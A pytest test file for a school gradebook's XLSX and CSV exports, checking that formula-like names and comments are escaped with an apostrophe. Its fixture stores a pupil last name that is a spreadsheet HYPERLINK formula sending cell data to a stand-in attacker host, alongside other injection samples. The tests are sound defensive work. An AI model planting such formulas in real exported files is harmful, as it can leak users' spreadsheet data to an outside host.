"""Exports: what the spreadsheet holds, and no formula from a name or a comment."""

import csv
import io

import pytest
from openpyxl import load_workbook

from school.gradebook import services
from school.models import TermMark, User, WorkType
from tests import factories
from tests.school.gradebook.conftest import gradebook_url, signed_in

pytestmark = pytest.mark.django_db

EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.fixture
def filled(city, lesson, classwork, test_work):
    evil = factories.make_pupil(city.class_in, last_name=EVIL_NAME, first_name="")
    evil.patronymic = ""
    evil.save(update_fields=["patronymic"])
    for pupil, value, comment in ((city.pupil_in, 5, "+cmd"), (evil, 3, "@SUM(1)")):
        services.mark_set(
            teacher=city.teacher,
            lesson=lesson,
            pupil=pupil,
            work_type=classwork,
            value=value,
            comment=comment,
        )
    services.mark_set(
        teacher=city.teacher,
        lesson=lesson,
        pupil=city.pupil_in,
        work_type=test_work,
        value=4,
    )
    services.term_mark_set(
        teacher=city.teacher,
        gradebook=services.gradebook_for(lesson=lesson),
        pupil=city.pupil_in,
        value=4,
    )
    return evil


def rows_of(sheet) -> list[list]:
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def test_xlsx_holds_marks_averages_final_marks_and_no_formulas(city, filled):
    response = signed_in(city.teacher).get(gradebook_url(city, "export_xlsx"))
    assert response.status_code == 200
    assert "attachment" in response["Content-Disposition"]
    workbook = load_workbook(io.BytesIO(response.content))
    grid, marks = workbook.worksheets
    rows = rows_of(grid)
    by_name = {row[0]: row for row in rows[1:]}
    petya = by_name[city.pupil_in.full_name]
    # (5·1 + 4·3) / 4 = 4.25
    assert petya[1:] == ["5 4", 4.25, 100, "4"]
    assert "'" + EVIL_NAME in by_name
    for row in grid.iter_rows():
        for cell in row:
            assert cell.data_type != "f"
    comments = {row[5] for row in rows_of(marks)[1:]}
    assert comments == {"'+cmd", "'@SUM(1)", None}
    assert TermMark.objects.count() == 1


def test_csv_grid_and_marks_are_escaped(city, filled):
    client = signed_in(city.teacher)
    response = client.get(gradebook_url(city, "export_csv"))
    assert response["Content-Type"].startswith("text/csv")
    rows = list(
        csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";")
    )
    names = [row[0] for row in rows[1:]]
    assert "'" + EVIL_NAME in names
    petya = next(row for row in rows if row[0] == city.pupil_in.full_name)
    assert petya[-3:] == ["4.25", "100", "4"]

    response = client.get(gradebook_url(city, "export_csv"), {"table": "marks"})
    rows = list(
        csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";")
    )
    assert sorted(row[5] for row in rows[1:]) == ["", "'+cmd", "'@SUM(1)"]
    assert all(
        not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row
    )


def test_a_reader_may_export(city, filled):
    response = signed_in(city.admin_one).get(gradebook_url(city, "export_xlsx"))
    assert response.status_code == 200
    assert WorkType.objects.exists() and User.objects.exists()


@pytest.mark.parametrize("text", ["=1+1", "+cmd", "-2+3", "@SUM(A1)", "\tTAB", "\rCR"])
def test_every_formula_start_gets_an_apostrophe(text):
    from lib.spreadsheet_cells import cell_safe

    assert cell_safe(text) == "'" + text
    assert cell_safe("Иванов") == "Иванов"
    assert cell_safe(-3) == -3
